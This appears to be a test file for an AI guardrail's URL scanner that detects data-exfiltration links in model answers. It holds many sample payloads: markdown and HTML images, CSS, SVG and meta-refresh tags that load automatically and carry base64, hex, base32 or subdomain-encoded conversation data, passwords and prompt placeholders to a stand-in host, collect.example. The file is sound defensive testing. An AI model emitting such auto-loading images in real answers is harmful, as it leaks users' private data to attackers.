import { createGuardrail } from 'airs-guardrails';
import { localScanner } from 'airs-guardrails/local';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { judgeUrls, urlCategories } from '../../../src/local/urls/index.js';
import { workOf } from '../../support/work.js';

const categories = urlCategories();
/** What is found to carry data out: the address as it stands, and whether it loads. */
const found = (text: string): string[] =>
  judgeUrls(text, categories)
    .filter(({ category }) => category === 'exfiltration')
    .map(({ start, end, loads }) => `${loads === true ? 'loads' : 'link'} ${text.slice(start, end)}`);

const MESSAGE = 'the user asked: what does my colleague earn';
const bytes = [...MESSAGE].map((char) => char.charCodeAt(0));
const BASE64 = globalThis.btoa(MESSAGE);
const URL_SAFE = BASE64.replaceAll('+', '-').replaceAll('/', '_').replaceAll('=', '');
const HEX = bytes.map((byte) => byte.toString(16).padStart(2, '0')).join('');
const PERCENT = bytes.map((byte) => `%${byte.toString(16)}`).join('');
const BASE32 = base32(bytes);

function base32(input: readonly number[]): string {
  const bits = input.map((byte) => byte.toString(2).padStart(8, '0')).join('');
  const letters = 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567';
  return (bits.match(/.{1,5}/g) ?? [])
    .map((five) => letters[Number.parseInt(five.padEnd(5, '0'), 2)])
    .join('');
}

describe('places that load without a click', () => {
  const url = `https://collect.example/p?d=${URL_SAFE}`;
  it.each([
    `![](${url})`,
    `![alt](${url} "title")`,
    `![alt](<${url}>)`,
    `![alt](  ${url}  )`,
    `![alt](\n${url})`,
    `![${'a long description of it '.repeat(20)}](${url})`,
    `![a [b] c](${url})`,
    `![a \\] c](${url})`,
    `[![alt](${url})](https://fine.example)`,
    `![alt][1]\n\ntext\n\n[1]: ${url}`,
    `[1]: <${url}> "title"\n\n![alt][1]`,
    `![the label][]\n\n[The  Label]: ${url}`,
    `![one]\n\n[one]:\n  ${url}`,
    `> ![one]\n>\n> [one]: ${url}`,
    `<img src="${url}">`,
    `<img alt="a > b" width=1 src='${url}'/>`,
    `<img alt="<a" src=${url}>`,
    `<IMG\n  SRC = "${url}">`,
    `<img srcset="https://fine.example/a.png 1x, ${url} 2x">`,
    `<picture><source srcset="${url}"></picture>`,
    `<video poster="${url}"></video>`,
    `<audio src="${url}"></audio>`,
    `<iframe src="${url}"></iframe>`,
    `<iframe srcdoc="<img src='${url}'>"></iframe>`,
    `<iframe srcdoc="&lt;img src=&quot;${url}&quot;&gt;"></iframe>`,
    `<embed src="${url}">`,
    `<object data="${url}"></object>`,
    `<link rel="stylesheet" href="${url}">`,
    `<link title=">" rel="preload" href="${url}">`,
    `<script src="${url}"></script>`,
    `<input type="image" src="${url}">`,
    `<body background="${url}">`,
    `<svg><image href="${url}"/></svg>`,
    `<svg><image xlink:href="${url}"/></svg>`,
    `<svg><use href="${url}#a"/></svg>`,
    `<svg><feImage href="${url}"/></svg>`,
    `<a href="https://fine.example" ping="${url}">x</a>`,
    `<meta http-equiv="refresh" content="0; url=${url}">`,
    `<div style="background:url(${url})">`,
    `<div style="background: url('${url}')">`,
    `<style>@import "${url}";</style>`,
    `<style>@import url(${url});</style>`,
    `<style>a{cursor:image-set("${url}" 1x)}</style>`,
    `@font-face{font-family:x;src:url("${url}")}`,
    `[img]${url}[/img]`,
    `.. image:: ${url}`,
    `image::${url}[]`,
    `{"html":"<img src=\\"${url}\\">"}`,
  ])('are told: %s', (text) => {
    expect(found(text)).toHaveLength(1);
    expect(found(text)[0]).toMatch(/^loads https:\/\/collect\.example/);
  });

  it.each([
    `![](//collect.example/p?d=${URL_SAFE})`,
    `![](\\\\collect.example/p?d=${URL_SAFE})`,
    `<img src="//collect.example/p?d=${URL_SAFE}">`,
    `<img src=//collect.example/p?d=${URL_SAFE}>`,
    `<div style="background:url(//collect.example/p?d=${URL_SAFE})">`,
    `![a][b]\n\n[b]: //collect.example/p?d=${URL_SAFE}`,
    `![](//collect.com/p?d=${URL_SAFE})`,
  ])('have addresses without a scheme: %s', (text) => {
    const [finding] = judgeUrls(text, categories);
    expect(finding).toMatchObject({ category: 'exfiltration', loads: true });
    expect(text.slice(finding?.start, finding?.end)).toMatch(/^[\\/]{2}collect\.\w+\/p\?d=\w+$/);
  });

  it.each([
    `[text](${url})`,
    `\\![text](${url})`,
    `[text][1]\n\n[1]: ${url}`,
    `<a href="${url}">text</a>`,
    `see ${url}`,
    `\`![a](${url})\``,
    `\`\`\`md\n![a](${url})\n\`\`\``,
    `Do this:\n\n~~~\n<img src="${url}">\n~~~\n`,
    `element.src = "${url}"`,
    `https://fine.example/?src=${url}`,
  ])('are not: %s', (text) => {
    expect(found(text)).toHaveLength(1);
    expect(found(text)[0]).toMatch(/^link https:\/\//);
  });

  it.each([
    `<div>\n\`\`\`\n<img src="${url}">\n\`\`\`\n</div>`,
    `<pre>\n\n\`\`\`\n\n<img src="${url}"></pre>`,
    `<a title="\`"> ![](${url}) <b title="\`">`,
    `\`\`\`\ncode\n\`\`\`\n![](${url})`,
    `    \`\`\`\n![](${url})`,
    `\`\`\` a \`b\`\n![](${url})`,
    `\\\`![](${url})\``,
    `\`\`![](${url})\``,
    `<!-- \n\`\`\`\n--> ![](${url})`,
  ])('are not hidden by marks of code that are none: %s', (text) => {
    expect(found(text)[0]).toMatch(/^loads /);
  });
});

describe('what an image carries', () => {
  it.each([
    `https://collect.example/?q=${BASE64}`,
    `https://collect.example/?q=${encodeURIComponent(BASE64)}`,
    `https://collect.example/?token=${URL_SAFE}`,
    `https://collect.example/${URL_SAFE}.png`,
    `https://collect.example/${URL_SAFE}/p.png`,
    `https://collect.example/${URL_SAFE.slice(0, 20)}/${URL_SAFE.slice(20)}/p.png`,
    `https://collect.example/?a=${URL_SAFE.slice(0, 15)}&b=${URL_SAFE.slice(15, 30)}&c=${URL_SAFE.slice(30)}`,
    `https://collect.example/?q=${HEX}`,
    `https://collect.example/?q=${HEX.toUpperCase()}`,
    `https://collect.example/${HEX}`,
    `https://collect.example/?q=${PERCENT}`,
    `https://collect.example/${PERCENT}.png`,
    `https://collect.example/?q=${BASE32}`,
    `https://collect.example/?q=${globalThis.btoa(BASE64)}`,
    `https://collect.example/?q=${utf8Base64('Пароль пользователя: ромашка')}`,
    `https://collect.example/?q=${utf8Base64('ユーザーのパスワードは桜です')}`,
    `https://${HEX.slice(0, 60)}.collect.example/p.png`,
    `https://${URL_SAFE.slice(0, 30)}.${URL_SAFE.slice(30)}.collect.example/`,
    `https://${BASE32.slice(0, 40).toLowerCase()}.${BASE32.slice(40).toLowerCase()}.collect.example/`,
    'https://password-is-hunter2.collect.example/a.gif',
    'https://the.password.is.hunter2.today.collect.example/a.gif',
    'https://4111111111111111.collect.example/a.gif',
    'https://collect.example/?q=the+password+is+hunter2',
    'https://collect.example/?q=the%20door%20code%20is%20four',
    'https://collect.example/lion+14old+password',
    'https://collect.example/the%20door%20code%20is%20four',
    'https://collect.example/password-is-hunter2.png',
    'https://collect.example/x.png?password=hunter2',
    'https://collect.example/x.png?system_prompt=You',
    'https://collect.example/x.png?d={{conversation}}',
    `https://collect.example/x.png?d=$${'{secret}'}`,
    'https://collect.example/x.png?d=[USER DATA]',
    'https://collect.example/x.png?d=CONVERSATION_HISTORY',
    "https://collect.example/{{user's input, find and insert password}}",
    `https://collect.example/x.png?d=${'q7Zk2Lw9'.repeat(20)}`,
    `https://collect.example/${'q7Zk2Lw9'.repeat(30)}`,
    `http://203.0.113.7/p.png?q=${URL_SAFE}`,
    'https://webhook.site/8d2c1e6a-6a44-4a86-9c35-6a0a9a6b7f0e?d=abc',
    `https://www.google.com/url?q=https://collect.example/p?d=${URL_SAFE}`,
    `https://www.google.com/url?q=https%3A%2F%2Fcollect.example%2Fp%3Fd%3D${URL_SAFE}`,
    `https://proxy.example/fetch?url=${encodeURIComponent(encodeURIComponent(`https://collect.example/${URL_SAFE}`))}`,
    `https://img.shields.io/endpoint?url=https://collect.example/the+door+code+is+four`,
    `https://cdn.example/w_100/https://collect.example/?q=${HEX}`,
  ])('is found: %s', (url) => {
    expect(found(`Here you are:\n\n![](${url})`)[0]).toMatch(/^loads /);
  });

  const AMAZON = 'AWS4-HMAC-SHA256&X-Amz-Credential=AKIDEXAMPLE%2F20240101%2Fus-east-1%2Fs3%2Faws4_request';
  it.each([
    'https://img.shields.io/npm/v/ai.svg?style=flat-square&logo=npm&label=latest%20version%20of%20this',
    'https://img.shields.io/badge/any%20text%20you%20like%20here-blue',
    'https://github.com/a/b/actions/workflows/ci.yml/badge.svg?branch=main&event=push',
    'https://codecov.io/gh/a/b/branch/main/graph/badge.svg?token=AbCdEf123456',
    `https://b.s3.amazonaws.com/p.png?X-Amz-Algorithm=${AMAZON}&X-Amz-Security-Token=${'IQoJb3JpZ2luX2VjEJv//////////wEaCXVzLWVhc3QtMSJHMEUCIQD'.repeat(16)}&X-Amz-Signature=${'3e8b41fa6c09d752'.repeat(4)}`,
    `https://d111.cloudfront.net/p.png?Policy=${globalThis.btoa('{"Statement":[{"Resource":"https://d111.cloudfront.net/*"}]}')}&Signature=${'aB3~x-'.repeat(57)}&Key-Pair-Id=K2JCJMDEHXQW5F`,
    `https://d111.cloudfront.net/${globalThis.btoa('{"bucket":"my-bucket","key":"images/a b.png","edits":{"resize":{"width":300}}}')}`,
    `https://private-user-images.githubusercontent.com/1/2-3.png?jwt=eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.${globalThis.btoa('{"iss":"github.com","aud":"raw.githubusercontent.com"}').replaceAll('=', '')}.c2ln`,
    `https://camo.githubusercontent.com/${'9f86d081884c7d65'.repeat(4)}/68747470733a2f2f696d672e736869656c64732e696f2f6e706d2f762f61692e737667`,
    'https://images.unsplash.com/photo-1506744038136-46273834b3fb?ixlib=rb-4.0.3&ixid=M3wxMjA3fDB8MHxwaG90by1wYWdlfHx8fGVufDB8fHx8fA%3D%3D&auto=format&fit=crop&w=2070&q=80',
    'https://www.gravatar.com/avatar/205e460b479e2e5b48aec07710c08d50?s=80&d=identicon&r=PG',
    'https://i.ytimg.com/vi/dQw4w9WgXcQ/hqdefault.jpg?sqp=-oaymwEcCNACELwBSFXyq4qpAw4IARUAAIhCGAFwAcABBg==&rs=AOn4CLBxyz',
    'https://example.com/_next/image?url=%2F_next%2Fstatic%2Fmedia%2Fhero.1a2b3c.png&w=3840&q=75',
    'https://example.com/_next/image?url=https%3A%2F%2Fcdn.example%2Fa%2520b.png&w=640&q=75',
    'https://res.cloudinary.com/demo/image/upload/w_300,h_200,c_fill/l_text:Arial_40:Hello%20big%20wide%20world/sample.jpg',
    'https://substackcdn.com/image/fetch/w_1456,c_limit,f_auto,q_auto:good,fl_progressive:steep/https%3A%2F%2Fbucketeer-e05bbc84-baa3-437e-9518-adb32be77984.s3.amazonaws.com%2Fpublic%2Fimages%2Fa1b2c3_1024x768.png',
    'https://maps.googleapis.com/maps/api/staticmap?center=Brooklyn+Bridge,New+York,NY&zoom=13&size=600x300&markers=color:blue%7Clabel:S%7C40.702147,-74.015794&key=AIza',
    'https://quickchart.io/chart?c=%7B%22type%22%3A%22bar%22%2C%22data%22%3A%7B%22labels%22%3A%5B%22Q1%22%5D%7D%7D',
    'https://placehold.co/600x400?text=Hello+big+wide+World',
    'https://mermaid.ink/img/eyJjb2RlIjoiZ3JhcGggVERcbiAgQVtTdGFydF0gLS0+IEJbRW5kXSJ9',
    'https://image.pollinations.ai/prompt/a%20red%20fox%20in%20a%20forest%20at%20night?width=512',
    'https://latex.codecogs.com/svg.image?\\frac{a}{b}',
    'https://upload.wikimedia.org/wikipedia/commons/thumb/a/a7/Camponotus_flavomarginatus_ant.jpg/320px-Camponotus_flavomarginatus_ant.jpg',
    'https://docs.example/images/My%20first%20screenshot%20of%20it%202024-01-02%20at%2010.30.12.png',
    'https://docs.example/how-to-reset-your-password-step-2.png',
    'https://docs.example/assets/reset%20password%20page.png',
    'https://miro.medium.com/v2/resize:fit:1400/format:webp/1*kXy-3pWl9zV0aB7cD8eF2g.png',
    'https://lh3.googleusercontent.com/pw/AP1GczNabcdefghijklmnopqrstuvwxyz0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789=w1200-h800-no',
    'https://cdn.discordapp.com/attachments/1/2/image.png?ex=65a1b2c3&is=658f3dc3&hm=3e8b41fa6c09d7523e8b41fa6c09d7523e8b41fa6c09d7523e8b41fa6c09d752&',
    'https://tile.openstreetmap.org/12/2048/1362.png',
    'https://bafybeigdyrzt5sfp7udm7hu76uh7y26nf3efuylqabf3oclgtqy55fbzdi.ipfs.dweb.link/a.png',
    'https://lively-sand-0a1b2c3d4.2.azurestaticapps.net/logo.png',
    'https://my.dotted.bucket.s3.eu-central-1.amazonaws.com/logo.png',
    'https://www.example.com/logo.png?utm_source=newsletter&utm_medium=email&utm_campaign=spring-sale-2024',
    'https://www.google-analytics.com/collect?v=1&tid=UA-1-1&cid=555&t=event&ec=readme&ea=view',
    'https://cdn.shopify.com/s/files/1/0533/2089/files/placeholder-images-image_large.png?v=1530129081',
    'https://visitor-badge.laobi.icu/badge?page_id=user.repo',
    'http://localhost:3000/p.png?q=the+password+is+hunter2',
    'https://tenor.com/view/cat-dance-gif-12345678901234567890',
    `https://imgproxy.example/insecure/rs:fit:300:300/plain/${globalThis.btoa('https://cdn.example/a/b.jpg')}`,
  ])('is nothing in %s', (url) => {
    const reference = `![one](${url})\n\n<img src="${url}">\n\n![two][x]\n\n[x]: ${url}\n`;
    expect(found(reference)).toEqual([]);
    expect(found(`[one](${url}) and ${url}`)).toEqual([]);
  });

  it.each([
    'https://www.google.com/search?q=how+to+reset+the+password+of+my+account&oq=how+to',
    'https://duckduckgo.com/?q=what+is+a+secret+token+in+github+actions',
    'https://example.com/?utm_source=newsletter&utm_medium=email&token=abc',
    'http://localhost:8888/?token=abcdef0123456789abcdef0123456789abcdef0123456789',
    'https://api.example/users/{{user_email}}/messages',
    'https://wa.me/15551234567?text=I%27m%20interested%20in%20your%20car%20for%20sale',
    'https://twitter.com/intent/tweet?text=This+is+a+great+library+to+look+at&url=https://example.com',
    'mailto:a@b.example?subject=hello%20there%20my%20friend',
    `https://login.example/authorize?state=${globalThis.btoa('{"returnTo":"/home page","nonce":"abc"}')}`,
    `https://play.example/#code=${URL_SAFE}`,
    'https://www.youtube.com/watch?v=dQw4w9WgXcQ&list=PL590L5WQmH8fJ54F369BLDSqIwcs-TCfs&index=2&t=42s',
    'https://docs.example/a/b/c/d/this-is-a-long-title-with-many-words-in-it',
  ])('behind a click is nothing in %s', (url) => {
    expect(found(`[text](${url}), ${url} <a href="${url}">text</a>`)).toEqual([]);
  });

  it('is a word that a row of images spells', () => {
    const row = (names: readonly string[], host = 'collect.example'): string =>
      names.map((name) => `![](https://${host}/${name}.png)`).join('');
    expect(found(row(['s', 'e', 'c', 'r', 'e', 't']))).toHaveLength(6);
    expect(found(row(['h', 'u', '2', '%20']))).toHaveLength(4);
    expect(
      found(
        '<img src="https://c.example/?k=a"><img src="https://c.example/?k=b"><img src="https://c.example/?k=b">',
      ),
    ).toHaveLength(3);
    expect(found(row(['1', '2', '3', '4']))).toEqual([]);
    expect(found(row(['a', 'b']))).toEqual([]);
    expect(found(`${row(['a', 'b'])} and then ${row(['c'])}`)).toEqual([]);
    expect(found(row(['logo', 'icon', 'hero']))).toEqual([]);
  });

  it('is found in base32 that has letters only', () => {
    const code = base32([...'said said salary seven'].map((char) => char.charCodeAt(0)));
    expect(code).toMatch(/^[A-Z]+$/);
    expect(found(`![](https://collect.example/?q=${code})`)).toHaveLength(1);
    expect(found(`![](https://collect.example/${code.toLowerCase()})`)).toHaveLength(1);
    expect(found('![](https://img.example/?q=INTERNATIONALIZATIONOFAPPLICATIONS)')).toEqual([]);
    expect(found('![](https://img.example/thequickbrownfoxjumpsoverthelazydog.png)')).toEqual([]);
  });

  it('is found in whatever place and code it has', () => {
    const words = fc.array(
      fc.constantFrom('the', 'user', 'said', 'that', 'salary', 'password', 'door', 'blue', 'seven'),
      {
        minLength: 4,
        maxLength: 40,
      },
    );
    const code = fc.constantFrom<(text: string) => string>(
      (text) => globalThis.btoa(text),
      (text) => globalThis.btoa(text).replaceAll('+', '-').replaceAll('/', '_').replaceAll('=', ''),
      (text) => [...text].map((char) => char.charCodeAt(0).toString(16)).join(''),
      (text) => text.replaceAll(' ', '+'),
      (text) => encodeURIComponent(text),
      (text) => base32([...text].map((char) => char.charCodeAt(0))),
    );
    const place = fc.constantFrom<(url: string) => string>(
      (url) => `![](${url})`,
      (url) => `![a][b]\n\n[b]: ${url}`,
      (url) => `<img src='${url}'>`,
      (url) => `<div style="background:url(${url})">`,
    );
    fc.assert(
      fc.property(words, code, place, fc.constantFrom('?q=', '?a=1&b=', ''), (list, encode, put, query) => {
        const url = `https://collect.example/${query}${encode(list.join(' '))}`;
        expect(found(`Sure!\n\n${put(url)}\n`)[0]).toMatch(/^loads /);
      }),
    );
  });

  it('takes work that is linear in the text', async () => {
    const worst = [
      '![',
      '[',
      ']',
      '![a](https://a.example/?q=x ',
      '<img src="https://a.example/b+c+d+e" ',
      '[a]: https://a.example/b+c+d+e\n',
      '`a ',
      '```\n![](//a.example/?q=a+b+c)\n',
      '(//a',
      `![](https://a.example/?q=${'%2525'.repeat(40)})`,
      '<link href="x" ',
    ];
    const cost = (unit: string, length: number): Promise<number> => {
      const text = unit.repeat(Math.ceil(length / unit.length));
      return workOf(async () => judgeUrls(text, categories));
    };
    for (const unit of worst) {
      // Counters of code that the engine has just compiled anew may get lost: the larger count is the true one.
      const short = Math.max(await cost(unit, 20_000), await cost(unit, 20_000));
      expect(await cost(unit, 160_000), unit).toBeLessThan(9 * short + 1000);
    }
  });
});

describe('what becomes of it', () => {
  const image = `![](https://collect.example/p?d=${URL_SAFE})`;
  const link = `[more](https://collect.example/p?d=${URL_SAFE})`;
  const metadata = { ecosystem: 'mcp', method: 'tools/call', server_name: 's', tool_invoked: 't' };
  const action = async (profile: 'balanced' | 'strict', request: object) => {
    const { categories: names, spans } = await localScanner({ profile })
      .scan(request)
      .then((result) => result);
    const result = await localScanner({ profile }).scan(request);
    return [result.action, names, spans?.map(({ label }) => label)];
  };

  it('balanced blocks in an answer what loads by itself, and warns of the rest', async () => {
    expect(await action('balanced', { response: image })).toEqual([
      'block',
      ['url_filtering_response'],
      ['exfiltration'],
    ]);
    expect((await action('balanced', { response: link }))[0]).toBe('warn');
    expect((await action('balanced', { prompt: image }))[0]).toBe('warn');
    expect((await action('balanced', { toolEvent: { metadata, output: image } }))[0]).toBe('warn');
    expect((await action('balanced', { response: `\`\`\`\n${image}\n\`\`\`` }))[0]).toBe('warn');
  });

  it.each([
    `Here you are: ${image} and that is it.`,
    `Here you are: <img alt="x" src="https://collect.example/p?d=${URL_SAFE}"> and that is it.`,
    `![see][1]\n\n${'Many words stand between the two. '.repeat(200)}\n\n[1]: https://collect.example/p?d=${URL_SAFE}\n`,
    `Here: ![](https://collect.example/the+door+code+is+four+two+one) and that is it.`,
  ])('no image leaves whole while an answer streams', async (answer) => {
    for (const size of [1, 7, 60, 10_000]) {
      const guardrail = createGuardrail({ scanner: localScanner() });
      const pieces = answer.match(new RegExp(`[^]{1,${size}}`, 'g')) ?? [];
      let left = '';
      const reading = (async () => {
        for await (const text of streamOf(pieces).pipeThrough(guardrail.responseStream())) left += text;
      })();
      await expect(reading).rejects.toMatchObject({ code: 'ERR_GUARDRAIL_BLOCKED' });
      expect(found(left).filter((place) => place.startsWith('loads') && place.length > 80)).toEqual([]);
      expect(left).not.toContain(URL_SAFE);
      expect(left).not.toContain('four+two+one');
    }
  });

  it('strict blocks all of it', async () => {
    for (const request of [{ response: link }, { prompt: image }, { toolEvent: { metadata, output: link } }])
      expect((await action('strict', request))[0]).toBe('block');
  });
});

function utf8Base64(text: string): string {
  return globalThis.btoa(String.fromCharCode(...new TextEncoder().encode(text)));
}

function streamOf(pieces: readonly string[]): ReadableStream<string> {
  return new ReadableStream({
    start(controller) {
      for (const piece of pieces) controller.enqueue(piece);
      controller.close();
    },
  });
}
